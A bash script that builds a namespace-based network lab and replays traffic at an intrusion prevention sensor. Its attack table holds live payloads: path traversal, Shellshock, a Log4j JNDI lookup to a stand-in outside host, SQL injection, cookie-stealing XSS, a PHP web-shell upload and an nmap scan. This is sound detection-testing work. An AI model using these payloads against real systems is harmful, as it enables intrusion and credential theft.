#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-or-later
# The lab: a small network in namespaces, with real clients, servers and attacks.
#
#   c1 -- br1 -- s1        c1, c2  clients, "outside":  203.0.113.11, .12   2001:db8:c::11, ::12
#          |  \            s1, s2  servers, "inside":   10.7.1.20, 10.7.2.20  fd07::1:20, fd07::2:20
#          |   rsp (ips)   br1, br2  the two switches (namespace sw), joined by a trunk
#          |               mon1, mon2  mirror ports in the sensor's namespace ips: each frame that a host
#   c2 -- br2 -- s2                    sends into br1 / br2, once, tags kept (MTU 65535: super-frames)
#                          rsp     response port, a member of br1; reaches br2 through the trunk
#
# All hosts are on one link and need no router.  A frame is mirrored where it enters: of a connection
# between c1 and s2, mon1 shows the client's half and mon2 the server's.  With --mirror-trunk the trunk's
# ports are mirrored, too: such frames come twice (as do the sensor's own resets for the other switch).
# Switches learn as real ones do: a reset with a forged source MAC would move the host's entry.
#
# Namespaces are entered with nsenter: `ip netns exec` remounts / and fails in a plain chroot.
set -u
here=$(dirname "$(readlink -f "$0")")
prefix=${RIPOSTE_LAB:-rlab}
base=${RIPOSTE_LAB_DIR:-/run/riposte-lab}
nodes="sw ips c1 s1 c2 s2"
python=$(command -v /usr/bin/python3 || command -v python3)

usage() {
    cat <<'EOF'
usage: riposte lab [-p PREFIX] COMMAND

  up [--vlan VID[.VID]] [--no-offload] [--mirror-trunk] [--no-servers]
        builds the lab (anew if it is there); --vlan: hosts of switch 1 tag with VID, or with an outer and
        an inner VID; --no-offload: hosts send no super-frames
  down  ends all that runs in the lab and removes it; also what a crash left
  status [--json]
  attack [--json] [--v6] [--from NODE] [--to NODE] [--for SECONDS] [--pause SECONDS] [NAME ...]
        runs traffic: names, `benign`, `hostile` or `all` (default); without --from and --to the two
        client-server pairs take turns
  attack --list
  resets [NODE]           how many connections the web servers (or that of s1, s2) have seen reset
  exec NODE CMD [ARG ...] runs a command in a node: c1 s1 c2 s2 ips sw
  addr NODE [4|6]         prints a node's address
  check                   says what is missing

-p PREFIX (or RIPOSTE_LAB): name of the lab, default rlab; several can stand side by side.
RIPOSTE_LAB_DIR: where its files go, default /run/riposte-lab.
EOF
}
die() { echo "lab: $*" >&2; exit 1; }

# ---- what is needed ----

need_tool() { # need_tool COMMAND PACKAGE
    command -v "$1" >/dev/null || { echo "missing: $1 (package $2)"; missing=1; }
}
check() {
    missing=
    [ "$(id -u)" = 0 ] || { echo "missing: root (network namespaces)"; missing=1; }
    [ -r /proc/self/ns/net ] || { echo "missing: /proc (mount -t proc proc /proc)"; missing=1; }
    [ -d /sys/class/net ] || { echo "missing: /sys (mount -t sysfs sysfs /sys)"; missing=1; }
    [ -c /dev/null ] && [ -c /dev/urandom ] || { echo "missing: /dev (mount --bind /dev .../dev)"; missing=1; }
    need_tool ip iproute2; need_tool tc iproute2; need_tool nsenter util-linux; need_tool flock util-linux
    need_tool curl curl; need_tool python3 python3
    PATH=$PATH:/usr/sbin:/sbin
    need_tool nginx nginx-light; need_tool dnsmasq dnsmasq-base; need_tool sshd openssh-server
    need_tool nmap nmap; need_tool openssl openssl
    [ -n "$missing" ] && return 1
    probe || return 1
}
# One throw-away namespace tells what the kernel lacks.
probe() {
    local n="$prefix-probe$$" ok=0 out
    out=$(ip netns add "$n" 2>&1) || { echo "missing: network namespaces ($out)"; return 1; }
    p() { out=$(nsenter --net="/run/netns/$n" "$@" 2>&1); }
    if ! p ip link add name pa type veth peer name pb; then
        echo "missing: veth devices (CONFIG_VETH): $out"; ok=1
    elif ! p ip link add name pbr type bridge; then
        echo "missing: bridges (CONFIG_BRIDGE): $out"; ok=1
    elif ! p tc qdisc add dev pa clsact; then
        echo "missing: tc clsact (CONFIG_NET_SCH_INGRESS): $out"; ok=1
    elif ! p tc filter add dev pa ingress protocol all u32 match u32 0 0 action mirred egress mirror dev pb &&
        ! p tc filter add dev pa ingress protocol all matchall action mirred egress mirror dev pb; then
        echo "missing: tc u32 or matchall with mirred (CONFIG_NET_ACT_MIRRED): $out"; ok=1
    fi
    ip netns del "$n" 2>/dev/null
    return $ok
}

# ---- addresses ----

addr4() { case $1 in c1) echo 203.0.113.11 ;; c2) echo 203.0.113.12 ;; s1) echo 10.7.1.20 ;; s2) echo 10.7.2.20 ;; esac; }
addr6() { case $1 in c1) echo 2001:db8:c::11 ;; c2) echo 2001:db8:c::12 ;; s1) echo fd07::1:20 ;; s2) echo fd07::2:20 ;; esac; }
addr() { case ${2:-4} in 6) addr6 "$1" ;; *) addr4 "$1" ;; esac; }

# ---- namespaces ----

ns() { local n=$1; shift; nsenter --net="/run/netns/$prefix-$n" "$@"; }
there() { [ -e "/run/netns/$prefix-$1" ]; }
sysctl_net() { # sysctl_net NODE KEY VALUE (what a kernel lacks does not matter)
    ns "$1" sh -c "test -e /proc/sys/net/$2 && echo $3 >/proc/sys/net/$2" 2>/dev/null || :
}
silent() { # a port that never speaks by itself
    sysctl_net "$1" "ipv6/conf/$2/disable_ipv6" 1
    ns "$1" ip link set "$2" arp off multicast off
}
tap() { # tap PORT MIRROR: each frame that enters PORT, once
    ns sw tc qdisc add dev "$1" clsact || return 1
    ns sw tc filter add dev "$1" ingress protocol all u32 match u32 0 0 \
        action mirred egress mirror dev "$2" 2>/dev/null ||
        ns sw tc filter add dev "$1" ingress protocol all matchall action mirred egress mirror dev "$2"
}

switch() { # switch K: bridge, mirror port
    local k=$1
    ns sw ip link add "br$k" type bridge stp_state 0 mcast_snooping 0 forward_delay 0
    silent sw "br$k"
    ns sw ip link set "br$k" up
    ns sw ip link add "m$k" type veth peer name "mon$k" netns "$prefix-ips"
    silent sw "m$k"; silent ips "mon$k"
    # Super-frames must fit through the mirror.
    ns sw ip link set "m$k" mtu 65535 up
    ns ips ip link set "mon$k" mtu 65535 up
}
host() { # host NODE SWITCH
    local n=$1 k=$2 dev=eth0 mac
    case $n in c*) mac="02:00:00:0$k:00:11" ;; *) mac="02:00:00:0$k:00:20" ;; esac
    ns sw ip link add "p$n" type veth peer name eth0 netns "$prefix-$n"
    sysctl_net sw "ipv6/conf/p$n/disable_ipv6" 1
    ns sw ip link set "p$n" master "br$k" up
    ns "$n" ip link set lo up
    sysctl_net "$n" ipv6/conf/eth0/router_solicitations 0
    sysctl_net "$n" ipv6/conf/eth0/accept_ra 0
    ns "$n" ip link set eth0 address $mac up
    [ -n "$no_offload" ] && ns "$n" ethtool -K eth0 tso off gso off gro off >/dev/null
    if [ -n "$vlan" ] && [ "$k" = 1 ]; then
        tag "$n" || return 1
        dev=$tagged
    fi
    ns "$n" ip addr add "$(addr4 "$n")/32" dev "$dev"
    ns "$n" ip -6 addr add "$(addr6 "$n")/128" dev "$dev" nodad
    ns "$n" ip route add 203.0.113.0/24 dev "$dev"
    ns "$n" ip route add 10.7.0.0/16 dev "$dev"
    ns "$n" ip -6 route add 2001:db8:c::/64 dev "$dev"
    ns "$n" ip -6 route add fd07::/64 dev "$dev"
}
# Tags: VLAN devices where the kernel has them, else two small BPF programs at tc (lab/vlan.py).
tag() {
    local n=$1 outer=${vlan%%.*} inner=
    case $vlan in *.*) inner=${vlan#*.} ;; esac
    tagged=eth0
    sysctl_net "$n" ipv6/conf/eth0/disable_ipv6 0
    if ns "$n" ip link add link eth0 name "eth0.$outer" type vlan ${inner:+proto 802.1ad} id "$outer" 2>/dev/null; then
        ns "$n" ip link set "eth0.$outer" up
        tagged=eth0.$outer
        [ -z "$inner" ] && return 0
        ns "$n" ip link add link "eth0.$outer" name eth0.q type vlan id "$inner" &&
            ns "$n" ip link set eth0.q up && tagged=eth0.q
        return
    fi
    if [ ! -e "$run/bpf/push" ]; then
        mkdir -p "$run/bpf"
        mount -t bpf bpf "$run/bpf" || die "no VLAN devices and no bpffs: can't tag"
        "$python" "$here/vlan.py" "$run/bpf" "$vlan" || die "can't load the tagging programs"
    fi
    ns "$n" tc qdisc add dev eth0 clsact
    ns "$n" tc filter add dev eth0 egress bpf da object-pinned "$run/bpf/push" &&
        ns "$n" tc filter add dev eth0 ingress bpf da object-pinned "$run/bpf/pop"
}

network() {
    local n k
    for n in $nodes; do ip netns add "$prefix-$n" || return 1; done
    sysctl_net sw ipv6/conf/default/disable_ipv6 1
    ns sw ip link set lo up; ns ips ip link set lo up
    for k in 1 2; do
        switch $k || return 1
        host c$k $k || return 1
        host s$k $k || return 1
        tap pc$k m$k && tap ps$k m$k || return 1
    done
    ns sw ip link add t1 type veth peer name t2
    for k in 1 2; do
        silent sw t$k
        ns sw ip link set t$k master br$k up
        [ -n "$mirror_trunk" ] && tap t$k m$k
    done
    ns sw ip link add r1 type veth peer name rsp netns "$prefix-ips"
    silent sw r1; silent ips rsp
    ns sw ip link set r1 master br1 up
    ns ips ip link set rsp up
}

# ---- servers ----

big_file() { # 10 MB of lines, with the token ($1) at 5 MB if there is one
    local half=5242880 line='Riposte lab: an ordinary line of an ordinary file, 64 bytes long.'
    yes "$line" 2>/dev/null | head -c $half
    printf '%s' "$1"
    yes "$line" 2>/dev/null | head -c $((half - ${#1}))
}
early_file() { # 10 MB with the token ($1) after 256 kB
    local early=262144 line='Riposte lab: an ordinary line of an ordinary file, 64 bytes long.'
    yes "$line" 2>/dev/null | head -c $early
    printf '%s' "$1"
    yes "$line" 2>/dev/null | head -c $((10485760 - early - ${#1}))
}
web_root() {
    local w=$run/www p
    mkdir -p "$w/files/slow" "$w/forbidden/slow"
    for p in index about news shop contact; do
        printf '<!doctype html><title>%s</title><h1>%s</h1><p>%s</p><a href="/index.html">home</a>\n' \
            "$p" "$p" "A page of the lab's shop, as harmless as can be." >"$w/$p.html"
    done
    printf 'body { font: 1em sans-serif }\n' >"$w/style.css"
    big_file "" >"$w/files/big.bin"
    big_file "$token" >"$w/files/token.bin"
    ln "$w/files/big.bin" "$w/forbidden/big.bin"
    ln "$w/files/big.bin" "$w/forbidden/slow/big.bin"
    ln "$w/files/big.bin" "$w/files/slow/big.bin"
    early_file "$token" >"$w/files/slow/token.bin"
}
web_server() { # web_server NODE
    local d=$run/$1 mime=
    [ -r /etc/nginx/mime.types ] && mime='include /etc/nginx/mime.types;'
    mkdir -p "$d/tmp"
    cat >"$d/nginx.conf" <<EOF
user nobody nogroup;
worker_processes 1;
pid $d/nginx.pid;
error_log $d/error.log info;
events { worker_connections 1024; }
http {
    $mime
    access_log $d/access.log;
    client_body_temp_path $d/tmp/body; proxy_temp_path $d/tmp/proxy; fastcgi_temp_path $d/tmp/fastcgi;
    uwsgi_temp_path $d/tmp/uwsgi; scgi_temp_path $d/tmp/scgi;
    client_max_body_size 64m;
    sendfile on;
    server {
        listen 80; listen [::]:80 ipv6only=on;
        listen 443 ssl; listen [::]:443 ssl ipv6only=on;
        ssl_certificate $run/tls.crt; ssl_certificate_key $run/tls.key;
        root $run/www;
        merge_slashes off;
        # Whole after some ten seconds: whoever ends such a download has time for it.
        location ~ /slow/ { limit_rate 1m; }
        location ~ ^/(login|upload\.php|cgi-bin/|scripts/) {
            proxy_pass http://127.0.0.1:8000\$request_uri;
            proxy_set_header Host \$host;
        }
    }
}
EOF
    ns "$1" timeout 30 nginx -p "$d" -c "$d/nginx.conf" || die "nginx does not start in $1 (see $d/error.log)"
    # Not by ns: a shell that waits for it would keep the lock.
    nsenter --net="/run/netns/$prefix-$1" setsid "$python" "$here/app.py" 8000 >"$d/app.log" 2>&1 </dev/null &
}
dns_server() {
    local d=$run/$1
    cat >"$d/dnsmasq.conf" <<EOF
no-resolv
no-hosts
port=53
user=root
pid-file=$d/dnsmasq.pid
log-facility=$d/dnsmasq.log
address=/www.lab.test/$(addr4 "$1")
address=/www.lab.test/$(addr6 "$1")
address=/mail.lab.test/$(addr4 "$1")
address=/malware.lab.test/192.0.2.66
local=/lab.test/
EOF
    ns "$1" timeout 30 dnsmasq -C "$d/dnsmasq.conf" || die "dnsmasq does not start in $1"
}
ssh_server() {
    local d=$run/$1
    mkdir -p /run/sshd
    cat >"$d/sshd.conf" <<EOF
Port 22
HostKey $run/ssh.key
PidFile $d/sshd.pid
StrictModes no
UsePAM no
PasswordAuthentication no
EOF
    ns "$1" timeout 30 /usr/sbin/sshd -f "$d/sshd.conf" -E "$d/sshd.log" || die "sshd does not start in $1"
}
servers() {
    local n
    web_root
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 3650 -subj '/CN=www.lab.test/O=Riposte lab' \
        -keyout "$run/tls.key" -out "$run/tls.crt" 2>/dev/null || die "openssl makes no certificate"
    ssh-keygen -q -t ed25519 -N '' -f "$run/ssh.key" </dev/null || die "ssh-keygen makes no key"
    for n in s1 s2; do
        mkdir -p "$run/$n"
        web_server $n; dns_server $n; ssh_server $n
    done
    for n in s1 s2; do # ready when they answer
        ns $n "$python" "$here/victim.py" wait --timeout 20 127.0.0.1:80 127.0.0.1:443 127.0.0.1:53 127.0.0.1:22 127.0.0.1:8000 ||
            die "a server of $n does not answer"
    done
}

# ---- up, down ----

up() {
    vlan= no_offload= mirror_trunk= no_servers=
    while [ $# -gt 0 ]; do
        case $1 in
        --vlan) vlan=${2:-10}; shift ;;
        --no-offload) no_offload=1 ;;
        --mirror-trunk) mirror_trunk=yes ;;
        --no-servers) no_servers=1 ;;
        *) die "up: what is $1?" ;;
        esac
        shift
    done
    case $vlan in *[!0-9.]* | .* | *. | *.*.*) die "--vlan VID or --vlan OUTER.INNER" ;; esac
    check || die "the lab can't run here"
    [ -z "$no_offload" ] || command -v ethtool >/dev/null || die "--no-offload needs ethtool (package ethtool)"
    remove
    mkdir -p "$run"
    chmod 755 "$base" "$run"
    if ! network; then
        remove
        die "the network could not be built"
    fi
    [ -n "$no_servers" ] || servers
    local offload=yes
    [ -n "$no_offload" ] && offload=no
    echo "vlan=${vlan:-none} offload=${offload} trunk-mirrored=${mirror_trunk:-no}" >"$run/up"
    echo "lab $prefix is up: clients c1 c2, servers s1 s2; sensor: riposte lab exec ips riposte run -i mon1 -i mon2 --response rsp"
}
pids() { there "$1" && timeout 20 ip netns pids "$prefix-$1" 2>/dev/null; }
# All that runs in our namespaces is ours, whoever started it.
end_processes() {
    local n p sig t
    for sig in TERM KILL; do
        for t in 1 2 3 4 5 6 7 8 9 10; do
            local left=
            for n in $nodes; do
                for p in $(pids "$n"); do
                    [ "$p" = $$ ] && continue
                    left=1
                    # Again each time: what was being started when the first signal went is not forgotten.
                    kill -$sig "$p" 2>/dev/null
                done
            done
            [ -z "$left" ] && return
            sleep 0.1
        done
    done
}
remove() {
    local n
    end_processes
    for n in $nodes; do
        there "$n" && timeout 20 ip netns del "$prefix-$n"
    done
    [ -d "$run/bpf" ] && timeout 10 umount "$run/bpf" 2>/dev/null
    rm -rf "$run"
    rmdir "$base" 2>/dev/null
    return 0
}

# ---- status ----

alive() { # alive NODE DAEMON
    local p
    p=$(cat "$run/$1/$2.pid" 2>/dev/null) && [ -n "$p" ] &&
        grep -qs '^State:[[:space:]]*[^ZX]' "/proc/$p/status"
}
status() {
    local n d state sep= json=
    [ "${1:-}" = --json ] && json=1
    if ! there ips || [ ! -e "$run/up" ]; then
        [ -n "$json" ] && echo '{"up": false}' || echo "lab $prefix is not up"
        return 1
    fi
    if [ -n "$json" ]; then
        printf '{"up": true, "prefix": "%s", "run": "%s", "token": "%s", "options": "%s", "servers": {' \
            "$prefix" "$run" "$token" "$(cat "$run/up")"
        for n in s1 s2; do for d in nginx dnsmasq sshd; do
            alive $n $d && state=true || state=false
            printf '%s"%s.%s": %s' "$sep" $n $d $state; sep=', '
        done; done
        printf '}, "resets": %s}\n' "$(resets)"
        return 0
    fi
    echo "lab $prefix: $(cat "$run/up"); files in $run"
    for n in c1 c2 s1 s2; do printf '%-4s %-14s %-16s\n' $n "$(addr4 $n)" "$(addr6 $n)"; done
    for n in s1 s2; do for d in nginx dnsmasq sshd; do
        alive $n $d && state=runs || state="DOES NOT RUN"
        printf '%-4s %-8s %s\n' $n $d "$state"
    done; done
    ns ips ip -br link show
    echo "resets seen by the web servers: $(resets)"
}
resets() {
    local n sum=0 k
    for n in ${1:-s1 s2}; do
        k=$(grep -cE '\((104|32): ' "$run/$n/error.log" 2>/dev/null)
        sum=$((sum + ${k:-0}))
    done
    echo $sum
}

# ---- traffic ----

# name|kind|what|function
attacks='
pages|benign|a visitor reads some pages|a_pages
search|benign|a search with quotes and blanks|a_search
https|benign|a page over TLS|a_https
dns|benign|names that exist and one that does not|a_dns
ssh|benign|an SSH greeting|a_ssh
download|benign|10 MB that nobody minds|a_download
post|benign|a form is sent|a_post
traversal|hostile|a path that climbs to /etc/passwd|a_traversal
traversal-enc|hostile|the same, percent-encoded twice|a_traversal_enc
shellshock|hostile|a function definition in User-Agent|a_shellshock
log4j|hostile|${jndi:ldap:..} in a header|a_log4j
sqlmap|hostile|sqlmap looks for an injection|a_sqlmap
sqli|hostile|UNION SELECT in a parameter|a_sqli
xss|hostile|a script in a parameter|a_xss
cmd-exe|hostile|cmd.exe below winnt|a_cmd
webshell|hostile|a PHP shell is uploaded|a_webshell
forbidden|hostile|10 MB from a forbidden path|a_forbidden
token|hostile|10 MB with the forbidden token at 5 MB|a_token
dns-bad|hostile|a name of malware is looked up|a_dns_bad
nmap|hostile|a port scan|a_nmap
nikto|hostile|a scanner that says its name|a_nikto
'
web() { # web URL-PATH [curl options]
    local path=$1; shift
    timed curl -sS --globoff --path-as-is -k -o /dev/null -m 5 --speed-limit 1 --speed-time 1 \
        -w '%{http_code} %{size_download}' "$@" "http://$url_host$path"
}
# Runs a command in the client; sets outcome, detail and ms.
timed() {
    local t0 t1 rc
    t0=${EPOCHREALTIME/./}
    detail=$(ns "$from" timeout 30 "$@" 2>&1)
    rc=$?
    t1=${EPOCHREALTIME/./}
    ms=$(((t1 - t0) / 1000)).$(((t1 - t0) % 1000 / 100))
    detail=${detail//$'\n'/ }
    case $1:$rc in
    *:0) outcome=answered ;;
    curl:35 | curl:52 | curl:55 | curl:56) outcome=reset ;;
    curl:28) outcome=stalled ;;
    curl:7) outcome=refused ;;
    *:3) outcome=reset ;; # victim.py
    *:4) outcome=stalled ;;
    *:5) outcome=refused ;;
    *) outcome=failed ;;
    esac
}
victim() { timed "$python" "$here/victim.py" "$@"; }
a_pages() { local p; for p in index about news shop contact; do web /$p.html; [ $outcome = answered ] || return; done; }
a_search() { web '/login?q=%22blue+socks%22&page=2' -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'; }
a_https() {
    timed curl -sS -k -o /dev/null -m 5 -w '%{http_code} %{size_download}' --connect-to "::$url_host:443" \
        https://www.lab.test/index.html
}
a_dns() {
    local n
    for n in www.lab.test mail.lab.test nosuch.lab.test; do
        victim dns "$server" $n; [ $outcome = answered ] || return
    done
}
a_ssh() { victim tcp "$server" 22 --expect SSH-2.0 --timeout 2; }
a_download() { web /files/big.bin; }
a_post() { web /login -d 'user=alice&password=correct+horse'; }
a_traversal() { web /cgi-bin/../../../../../../etc/passwd; }
a_traversal_enc() { web '/cgi-bin/%252e%252e%252f%252e%252e%252fetc/passwd'; }
a_shellshock() { web /cgi-bin/status -A '() { :;}; /bin/bash -c "cat /etc/passwd"'; }
a_log4j() { web /login -H 'X-Api-Version: ${jndi:ldap://203.0.113.66:1389/a}'; }
a_sqlmap() { web "/login?id=1%20AND%201%3D1" -A 'sqlmap/1.7.2#stable (https://sqlmap.org)'; }
a_sqli() { web "/login?id=-1%20UNION%20SELECT%20user,password%20FROM%20mysql.user--"; }
a_xss() { web '/login?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'; }
a_cmd() { web '/scripts/..%255c../winnt/system32/cmd.exe?/c+dir+c:\'; }
a_webshell() {
    web /upload.php -H 'Content-Type: multipart/form-data; boundary=XxXx' --data-binary $'--XxXx\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\nContent-Type: application/x-php\r\n\r\n<?php system($_GET["cmd"]); ?>\r\n--XxXx--\r\n'
}
a_forbidden() { web /forbidden/big.bin; }
a_token() { web /files/token.bin; }
a_dns_bad() { victim dns "$server" malware.lab.test; }
a_nmap() {
    timed nmap ${v6:+-6} -n -Pn -sS -p 1-200 -T4 --max-retries 1 --host-timeout 10s -oG - "$server"
    detail="ports 1 to 200"
}
a_nikto() { web /cgi-bin/test.cgi -A 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)'; }

json_text() { local t=${1//\\/\\\\}; t=${t//\"/\\\"}; printf '%s' "${t//[[:cntrl:]]/ }"; }
run_attack() { # run_attack NAME: one row of the table
    local row name kind what fn
    row=$(grep "^$1|" <<<"$attacks") || die "no such attack: $1 (riposte lab attack --list)"
    IFS='|' read -r name kind what fn <<<"$row"
    from=${fix_from:-c$pair} to=${fix_to:-s$pair}
    server=$(addr "$to" "${v6:-4}")
    url_host=$server
    [ -n "$v6" ] && url_host="[$server]"
    outcome=failed detail= ms=0
    $fn
    if [ -n "$json" ]; then
        printf '{"name": "%s", "kind": "%s", "from": "%s", "to": "%s", "outcome": "%s", "ms": %s, "detail": "%s"}\n' \
            "$name" "$kind" "$(addr "$from" "${v6:-4}")" "$server" "$outcome" "$ms" "$(json_text "$detail")"
    else
        printf '%-14s %-8s %-15s -> %-12s %-9s %8s ms  %s\n' "$name" "$kind" "$(addr "$from" "${v6:-4}")" \
            "$server" "$outcome" "$ms" "$what"
    fi
    pair=$((3 - pair))
}
attack() {
    local names= until=0 pause=0 n
    json= v6= fix_from= fix_to= pair=1
    while [ $# -gt 0 ]; do
        case $1 in
        --list) awk -F'|' 'NF == 4 { printf "%-14s %-8s %s\n", $1, $2, $3 }' <<<"$attacks"; return ;;
        --json) json=1 ;;
        --v6) v6=6 ;;
        --from) fix_from=$2; shift ;;
        --to) fix_to=$2; shift ;;
        --for) until=$(($(date +%s) + ${2%.*})); shift ;;
        --pause) pause=$2; shift ;;
        -*) die "attack: what is $1?" ;;
        *) names="$names $1" ;;
        esac
        shift
    done
    there c1 || die "lab $prefix is not up (riposte lab up)"
    local list=
    for n in ${names:-all}; do
        case $n in
        all) list="$list $(awk -F'|' 'NF == 4 { print $1 }' <<<"$attacks")" ;;
        benign | hostile) list="$list $(awk -F'|' -v k="$n" 'NF == 4 && $2 == k { print $1 }' <<<"$attacks")" ;;
        *) list="$list $n" ;;
        esac
    done
    while :; do
        for n in $list; do
            run_attack "$n"
            [ "$until" != 0 ] && [ "$(date +%s)" -gt "$until" ] && return 0
            [ "$pause" = 0 ] || sleep "$pause"
        done
        [ "$until" = 0 ] && return 0
    done
}

# ---- command line ----

token=RIPOSTE-LAB-TOKEN-7f3a9c
while [ $# -gt 0 ]; do
    case $1 in
    -p) prefix=${2:?-p needs a name}; shift 2 ;;
    -h | --help) usage; exit 0 ;;
    *) break ;;
    esac
done
case $prefix in *[!a-zA-Z0-9_]* | '') die "the lab's name takes letters, digits and _" ;; esac
run=$base/$prefix
PATH=$PATH:/usr/sbin:/sbin
command=${1:-}
[ $# -gt 0 ] && shift
locked() { # one up or down at a time
    mkdir -p "$(dirname "$base")"
    exec 9>"$(dirname "$base")/.riposte-lab.lock" || die "can't write in $(dirname "$base")"
    flock -w "${RIPOSTE_LAB_WAIT:-120}" 9 ||
        die "another lab command has not ended in ${RIPOSTE_LAB_WAIT:-120} s (fuser -v $(dirname "$base")/.riposte-lab.lock names it)"
}
# What builds or removes the lab never waits without end, whatever hangs in it: the lock goes with the process.
bounded() {
    [ -z "${RIPOSTE_LAB_BOUNDED:-}" ] || return 0
    local rc most=${RIPOSTE_LAB_MOST:-180}
    RIPOSTE_LAB_BOUNDED=1 timeout --kill-after=10 "$most" "$here/lab.sh" -p "$prefix" "$command" "$@"
    rc=$?
    [ $rc = 124 ] || [ $rc = 137 ] && echo "lab: $command did not end in $most s; riposte lab down removes what is left" >&2
    exit $rc
}
case $command in
up) [ "$(id -u)" = 0 ] || die "needs root"; bounded "$@"; locked; up "$@" 9>&- ;;
down) [ "$(id -u)" = 0 ] || die "needs root"; bounded "$@"; locked; remove 9>&- ;;
status) status "$@" ;;
attack) attack "$@" ;;
resets) resets "$@" ;;
check) check && echo "nothing is missing" ;;
addr) addr "${1:?NODE}" "${2:-4}" ;;
exec)
    node=${1:?NODE}; shift
    there "$node" || die "no node $node (riposte lab up)"
    exec nsenter --net="/run/netns/$prefix-$node" "$@" ;;
*) usage >&2; exit 2 ;;
esac
